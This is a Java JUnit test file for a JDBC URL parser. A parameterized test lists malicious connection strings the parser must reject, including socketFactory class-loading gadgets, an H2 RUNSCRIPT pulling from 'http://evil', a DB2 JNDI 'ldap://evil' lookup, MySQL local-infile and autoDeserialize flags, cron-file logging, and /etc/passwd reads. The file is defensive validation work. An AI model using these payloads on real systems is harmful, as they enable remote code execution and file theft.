package org.taproot.connectors.intake.edge;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

    @Test
    void addressIsTakenApart() {
        assertThat(JdbcUrl.parse("jdbc:postgresql://db.example.org:5433/registry?sslmode=verify-full"))
                .isEqualTo(new JdbcUrl(
                        JdbcDriver.POSTGRESQL, "db.example.org", 5433, "registry", Map.of("sslmode", "verify-full")));
        assertThat(JdbcUrl.parse("jdbc:mysql://[2001:db8::1]/x").at("192.0.2.1"))
                .isEqualTo("jdbc:mariadb://192.0.2.1:3306/x");
        assertThat(JdbcUrl.parse("jdbc:oracle:thin:@//db.example.org/orcl").at("2001:db8::1"))
                .isEqualTo("jdbc:oracle:thin:@//[2001:db8::1]:1521/orcl");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://h/d?socketFactoryArg=http://evil",
                "jdbc:postgresql://h/d?loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://h/d?sslfactory=x",
                "jdbc:postgresql://h/d?options=-c%20x",
                "jdbc:postgresql://h/d?user=postgres",
                "jdbc:postgresql://h/d?password=canary",
                "jdbc:postgresql://h/d?sslmode=disable&sslmode=require",
                "jdbc:postgresql://h/d?SSLMODE=disable",
                "jdbc:postgresql://h/d?sslmode=a%26b",
                "jdbc:postgresql://h/d?sslmode",
                "jdbc:postgresql://h1,h2/d",
                "jdbc:postgresql://user:canary@h/d",
                "jdbc:postgresql:d",
                "jdbc:postgresql:///d",
                "jdbc:postgresql://h/",
                "jdbc:postgresql://h:0/d",
                "jdbc:postgresql://h:99999/d",
                "jdbc:postgresql://h/d#x",
                "jdbc:postgresql://h/d/../e",
                "jdbc:postgresql://h/d\n",
                "jdbc:mariadb://h/d?allowLocalInfile=true",
                "jdbc:mariadb:loadbalance://h/d",
                "jdbc:mysql://h/d?allowLoadLocalInfile=true",
                "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=x",
                "jdbc:mysql://address=(host=h)(allowLoadLocalInfile=true)/d",
                "jdbc:mysql://(host=h)/d",
                "jdbc:mysql:loadbalance://h/d",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:sqlite::resource:http://evil/x.db?loadLibrary=x",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:derby:memory:x;create=true",
                "jdbc:db2://h/d:clientRerouteServerListJNDIName=ldap://evil;",
                "JDBC:postgresql://h/d",
                "file:///etc/passwd",
                ""
            })
    void addressesThatDoMoreThanTellAPlaceAreRefusedAndNotRepeated(String url) {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> JdbcUrl.parse(url))
                .withMessageStartingWith("Invalid")
                .satisfies(failure -> assertThat(failure.getMessage()).doesNotContain("canary", "evil"));
    }
}
